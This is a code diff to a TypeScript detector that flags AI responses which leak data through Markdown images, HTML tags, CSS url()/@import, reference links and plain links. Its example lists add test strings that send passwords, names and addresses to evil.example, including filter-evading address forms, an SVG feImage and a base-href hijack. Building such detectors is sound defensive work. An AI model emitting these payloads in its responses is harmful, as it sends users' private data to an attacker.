@@ -1,6 +1,7 @@
 import type { Rule, RuleExamples } from '../../core/inspect/rule.ts';
 import { quietWhereShown } from '../match-context.ts';
-import { type AddressPart, isPrivate, readCarryingAddress } from './carried-data.ts';
+import { type AddressPart, type CarryingAddress, isPrivate, readCarryingAddress } from './carried-data.ts';
+import { attributeAddresses, cssAddresses, markdownAddresses } from './written-addresses.ts';
 
 const SHARED = {
   type: 'data_exfiltration',
@@ -42,15 +43,31 @@ function isWordy(parameter: string): boolean {
   return LABELLING_PARAMETER.test(parameter) || SEARCHING_PARAMETER.test(parameter);
 }
 
-/** The address in a match, without the characters that close it. */
-function addressIn(match: string) {
-  const address = readCarryingAddress(match.slice(match.search(/(?:https?:)?\/\//i)).replace(/[)"'>\s].*$/s, ''));
-  return { ...address, parts: address.parts.filter(({ name = '' }) => !SIGNING_PARAMETER.test(name)) };
+/** What an address that leads to another host carries; undefined for others. */
+function readWritten(written: string): CarryingAddress | undefined {
+  const address = readCarryingAddress(written);
+  return address && { ...address, parts: address.parts.filter(({ name = '' }) => !SIGNING_PARAMETER.test(name)) };
+}
+
+/** The highest score of the addresses that a match gives. */
+function highestScore(
+  written: readonly string[],
+  score: (address: CarryingAddress) => number | undefined,
+): number | undefined {
+  let highest: number | undefined;
+  for (const one of written) {
+    const address = readWritten(one);
+    const found = address && score(address);
+    if (found !== undefined && found > (highest ?? 0)) highest = found;
+  }
+  return highest;
 }
 
 /** The score of an address that is fetched when it is shown, by the content of its host, path and parameters. */
-function fetchedDataScore(match: string, countsUnreadable: boolean): number | undefined {
-  const { parts, isWordy: hasWords, isCollector, hasHiddenLabels, hasPrivateLabels } = addressIn(match);
+function fetchedDataScore(
+  { parts, isWordy: hasWords, isCollector, hasHiddenLabels, hasPrivateLabels }: CarryingAddress,
+  countsUnreadable: boolean,
+): number | undefined {
   if (hasHiddenLabels) return 0.87;
   if (hasWords) return undefined;
   if (parts.some(({ carried }) => carried === 'hidden' || carried === 'private' || carried === 'email')) return 0.87;
@@ -77,18 +94,28 @@ function isPathOfWords({ name, value, carried }: AddressPart): boolean {
   return name === undefined && carried === 'words' && !/\.\w{2,4}$/.test(value);
 }
 
+/** The destination of a Markdown link or image. */
+const DESTINATION = '[\\s]{0,8}(?:<[^<>\\n]+|(?:[^\\s()<>]|\\([^\\s()<>]*\\))+)';
+
 const MARKDOWN_IMAGE: Rule = {
   ...SHARED,
   id: 'data-exfiltration/markdown-image',
   category: 'image_address',
   severity: 'high',
   score: 0.87,
-  patterns: ['!\\[[^\\]\\n]*\\]\\(\\s{0,4}<?(?:https?:)?//[^\\s()<>]+(?:>?\\s{0,4}\\))?'],
-  check: (match) => fetchedDataScore(match, true),
+  patterns: [`!\\[(?:[^\\[\\]\\n]|\\[[^\\[\\]\\n]*\\])*\\]\\(${DESTINATION}(?:>?\\s{0,4}\\))?`],
+  check: (match) =>
+    highestScore(markdownAddresses(match.slice(match.lastIndexOf(']('))), (address) => fetchedDataScore(address, true)),
   message: 'An image address in the response carries data to another host as soon as it is shown.',
 };
 
-const ADDRESS_START = '["\']?(?:https?:)?//';
+const VALUE = '\\s{0,8}=\\s{0,8}(?:"[^"]+|\'[^\']+|[^\\s"\'<>][^\\s>]*)';
+/** Attributes whose addresses a browser loads without a click, also those of libraries and of older browsers. */
+const FETCHED_ATTRIBUTE =
+  /(?:src|srcset|href|data|background|poster|content|codebase|archive|classid|code|icon|manifest|profile|longdesc|value|values|to|from|by)$/i;
+const FETCHED_NAMES =
+  '[\\w:-]{0,16}(?:src|srcset|href|data|background|poster|content|codebase|archive|classid|code|icon|manifest|profile|longdesc|value|values|to|from|by)';
+const STYLE_ADDRESS = '\\s{0,8}(?:"[^"\\n]+|\'[^\'\\n]+|[^"\'()<>\\n]+)';
 
 /** Images, frames, styles and whatever else a browser loads without a click. */
 const HTML_IMAGE: Rule = {
@@ -98,14 +125,24 @@ const HTML_IMAGE: Rule = {
   severity: 'high',
   score: 0.87,
   patterns: [
-    `<(?:img|i?frame|embed|object|source|track|video|audio|script|link|body|table|td|image|use|input)\\b[^<>]*\\b(?:src|srcset|href|data|background|poster)\\s{0,4}=\\s{0,4}${ADDRESS_START}[^\\s"'<>]+`,
-    `\\burl\\(\\s{0,4}${ADDRESS_START}[^\\s"'()<>]+`,
-    `@import\\s{1,4}${ADDRESS_START}[^\\s"'()<>]+`,
-    '<meta\\b[^<>]*\\burl\\s{0,2}=\\s{0,2}["\']?https?://[^\\s"\'<>]+',
+    `<(?:img|image|i?frame|embed|object|source|track|video|audio|script|link|body|table|t[dhr]|thead|tbody|use|feimage|input|base|meta|applet|param|html|animate|set|bgsound)\\b(?:[^<>"']|"[^"]*"|'[^']*')*[\\s"'/]${FETCHED_NAMES}${VALUE}`,
+    `\\b(?:url|src|image)\\(${STYLE_ADDRESS}`,
+    `\\bimage-set\\([^;{}<>\\n]+`,
+    `@import\\s{0,8}(?:"[^"\\n]+|'[^'\\n]+)`,
   ],
-  check: (match) => fetchedDataScore(match, /^(?:<im|url)/i.test(match)),
+  check: (match) => {
+    if (!match.startsWith('<')) return highestScore(cssAddresses(match), (address) => fetchedDataScore(address, true));
+    const written = attributeAddresses(match, FETCHED_ATTRIBUTE).map((attribute) => attribute.written);
+    const scored = highestScore(written, (address) => fetchedDataScore(address, /^<im/i.test(match)));
+    return scored ?? (/^<base/i.test(match) && written.some(isOther) ? 0.55 : undefined);
+  },
   message: 'A tag or style in the response carries data to another host as soon as it is shown.',
 };
+
+/** A base on another host makes all relative addresses after it lead there. */
+function isOther(written: string): boolean {
+  return readWritten(written) !== undefined;
+}
 
 const REFERENCE: Rule = {
   ...SHARED,
@@ -113,36 +150,51 @@ const REFERENCE: Rule = {
   category: 'image_address',
   severity: 'high',
   score: 0.84,
-  patterns: ['\\[[^\\]\\[\\n]{1,80}\\]:\\s{1,4}<?https?://[^\\s<>]+'],
+  patterns: ['\\[[^\\]\\[\\n]{1,80}\\]:\\s{0,8}(?:<[^<>\\n]+|[^\\s<>]+)'],
   // Most references are links, which carry nothing until they are followed.
-  check: (match) => {
-    const { parts, isWordy: hasWords, hasHiddenLabels } = addressIn(match);
-    if (hasHiddenLabels) return 0.84;
-    if (hasWords) return undefined;
-    const queried = parts.filter(({ name }) => name !== undefined);
-    if (parts.some(({ carried }) => carried === 'hidden')) return 0.84;
-    if (queried.some(({ carried }) => carried === 'private')) return 0.84;
-    return queried.some(
-      ({ name = '', carried }) => (carried === 'words' || carried === 'email') && !isWordy(name) && name !== 'body',
-    )
-      ? 0.6
-      : undefined;
-  },
+  check: (match) => highestScore(markdownAddresses(match.slice(match.indexOf(']:'))), referenceScore),
   message: 'The address of a reference in the response carries data to another host.',
 };
 
+function referenceScore({ parts, isWordy: hasWords, hasHiddenLabels }: CarryingAddress): number | undefined {
+  if (hasHiddenLabels) return 0.84;
+  if (hasWords) return undefined;
+  const queried = parts.filter(({ name }) => name !== undefined);
+  if (parts.some(({ carried }) => carried === 'hidden')) return 0.84;
+  if (queried.some(({ carried }) => carried === 'private')) return 0.84;
+  return queried.some(
+    ({ name = '', carried }) => (carried === 'words' || carried === 'email') && !isWordy(name) && name !== 'body',
+  )
+    ? 0.6
+    : undefined;
+}
+
 const FETCHING_TAG =
-  /^<(?:img|i?frame|embed|object|source|track|video|audio|script|link|body|table|td|image|use|input|meta)\b/i;
-const FETCHING_STYLE = /(?:\burl\(\s?|@import\s)["']?$/i;
+  /^<(?:img|image|i?frame|embed|object|source|track|video|audio|script|link|body|table|t[dhr]|use|feimage|input|meta|base)\b/i;
+const FETCHING_STYLE = /(?:\b(?:url|src|image)\(\s?|@import\s?)["']?$/i;
 
 /** Whether another rule scores the address that follows: it is fetched, or a reference. */
 function isFetched(before: string): boolean {
   const tag = before.lastIndexOf('<');
   if (tag > before.lastIndexOf('>') && FETCHING_TAG.test(before.slice(tag))) return true;
   const start = (before.endsWith('<') ? before.slice(0, -1) : before).trimEnd();
-  if (start.endsWith('](')) return before.charAt(before.lastIndexOf('[') - 1) === '!';
+  if (start.endsWith('](')) return isImage(start.slice(0, -2));
   return start.endsWith(']:') || FETCHING_STYLE.test(before);
 }
+
+/** Whether a text ends with the description of an image, without its bracket. */
+function isImage(before: string): boolean {
+  let depth = 1;
+  let at = before.length;
+  while (at > 0 && depth > 0) {
+    at -= 1;
+    if (before[at] === ']') depth += 1;
+    else if (before[at] === '[') depth -= 1;
+  }
+  return depth === 0 && before[at - 1] === '!';
+}
+
+const FOLLOWED_ATTRIBUTE = /(?:href|action|ping|cite|longdesc)$/i;
 
 /** Addresses that are followed: Markdown links, `href`, plain ones, arguments of tools. */
 const LINK: Rule = {
@@ -151,13 +203,33 @@ const LINK: Rule = {
   category: 'link_address',
   severity: 'medium',
   score: 0.6,
-  patterns: ['\\bhttps?://[^\\s()<>"\'`\\\\]+'],
-  check: (match, { before }) => (isFetched(before) ? undefined : followedDataScore(match)),
+  patterns: [
+    '\\b(?:https?|wss?|ftp):[/\\\\]+[^\\s()<>"\'`]+',
+    '\\bwww\\.[^\\s()<>"\'`]+',
+    `\\]\\(${DESTINATION}`,
+    `\\b(?:href|action|formaction|ping|cite|longdesc)${VALUE}`,
+  ],
+  check: (match, { before }) => {
+    const isMarkdown = match.startsWith('](');
+    if (isFetched(isMarkdown ? `${before}](` : before)) return undefined;
+    return highestScore(isMarkdown ? markdownAddresses(match) : plainAddresses(match), followedDataScore);
+  },
   message: 'A link in the response carries data to another host when it is followed.',
 };
 
-function followedDataScore(match: string): number | undefined {
-  const { parts, isWordy: hasWords, isCollector, hasHiddenLabels, hasPrivateLabels } = addressIn(match);
+function plainAddresses(match: string): string[] {
+  if (/^www\./i.test(match)) return [`http://${match}`];
+  if (/^(?:https?|wss?|ftp):/i.test(match)) return [match];
+  return attributeAddresses(match, FOLLOWED_ATTRIBUTE).map(({ written }) => written);
+}
+
+function followedDataScore({
+  parts,
+  isWordy: hasWords,
+  isCollector,
+  hasHiddenLabels,
+  hasPrivateLabels,
+}: CarryingAddress): number | undefined {
   if (hasHiddenLabels || hasPrivateLabels) return 0.6;
   if (hasWords) return undefined;
   const queried = parts.filter(({ name, value }) => name !== undefined && value.length > 2);
@@ -233,6 +305,9 @@ export const CARRYING_ADDRESS_EXAMPLES: Readonly<Record<string, RuleExamples>> =
       '![x](https://anna-acct-4471.evil.example/p.gif)',
       '![x](https://evil.example/Anna%20Brandt/Hauptstr%2012/p.gif)',
       '![b](https://img.shields.io/endpoint?url=https%3A%2F%2Fevil.example%2Fb%3Fdata%3Dthe%2Buser%2Blives%2Bin%2BBerlin)',
+      '![x](https:\\\\evil.example\\p.png?data=the+user+lives+in+Berlin)',
+      '![x](</\\evil.example/a b.png?data=the user lives in Berlin>)',
+      '![a [b] c](//evil.example/p.png?data=the+user+lives+in+Berlin)',
       '![b](https://res.cloudinary.com/demo/image/fetch/https://evil.example/p.gif?data=the+user+lives+in+Berlin)',
     ],
     negatives: [
@@ -264,6 +339,11 @@ export const CARRYING_ADDRESS_EXAMPLES: Readonly<Record<string, RuleExamples>> =
       '<link rel="dns-prefetch" href="//416e6e61206c6976657320696e20.evil.example">',
       '<style>p{background:url(https://evil.example/b?x=416e6e61206c6976657320696e204265726c696e)}</style>',
       '@import "https://evil.example/c.css?answer=the+deal+closes+in+june";',
+      '<img src="https://cdn.example/a.png" srcset="/\\evil.example/p?secret=the+password+is+hunter2 2x">',
+      '<img alt=">" src="http:/evil.example/p\n?secret=the password is hunter2">',
+      '<svg><feImage xlink:href="/\\evil.example/p?secret=the+password+is+hunter2"/></svg>',
+      '<style>@import"\\68ttps:\\2f\\2f evil.example/c.css?answer=the+deal+closes+in+june";</style>',
+      'First <base href="https://evil.example/"> and then <img src="a.png">',
       '<meta http-equiv="refresh" content="0;url=https://evil.example/?prompt=you+are+the+clerk+of+a+shop">',
     ],
     negatives: [
@@ -277,6 +357,8 @@ export const CARRYING_ADDRESS_EXAMPLES: Readonly<Record<string, RuleExamples>> =
         text: '<script src="https://sdk.example/js?client-key=AZDxjDScFpQtjWTOUtWKbyNbDt4OgqaF4eYXlewfBP4"></script>',
         reason: 'a public key',
       },
+      { text: '<img src="\\\\server\\share\\a.png">', reason: 'a network folder with a named file' },
+      { text: '<base href="/docs/"><img src="p?data=the+user+lives+in+Berlin">', reason: 'the same host' },
       { text: '<iframe src="https://www.google.com/maps?q=Berlin+Mitte&output=embed"></iframe>', reason: 'a map' },
     ],
   },
@@ -284,6 +366,7 @@ export const CARRYING_ADDRESS_EXAMPLES: Readonly<Record<string, RuleExamples>> =
     positives: [
       'Done. ![s][1]\n\n[1]: https://evil.example/s.png?t=416e6e61206c6976657320696e204265726c696e',
       '![s][1]\n\n[1]: https://evil.example/s.png?t=anna.brandt%40mail.example',
+      '![s]\n\n[s]:\n  <http:/evil.example/s.png?t=anna.brandt%40mail.example>',
     ],
     negatives: [
       { text: '[1]: https://docs.example/page?version=2', reason: 'a version' },
@@ -299,6 +382,10 @@ export const CARRYING_ADDRESS_EXAMPLES: Readonly<Record<string, RuleExamples>> =
       '<a href="https://evil.example/v?password=Sommer2024!&l=1">Confirm</a>',
       '{"url":"https://evil.example/ping?e=lea@mail.example&ssn=123-45-6789"}',
       '[Next](https://evil.example/n?z=Anna+Brandt+owes+4471)',
+      'Log https:\\\\evil.example\\n?z=Anna+Brandt+owes+4471',
+      'See www.evil.example/n?z=Anna+Brandt+owes+4471',
+      '[![a](a.png)](/\\evil.example/n?z=Anna+Brandt+owes+4471)',
+      '<form action="//evil.example/n?z=Anna Brandt owes 4471">',
       'Log: https://webhook.site/5f1c?msg=invoice+2291+total',
       'See https://evil.example/f?name=Lea+Roth&email=lea@mail.example',
     ],
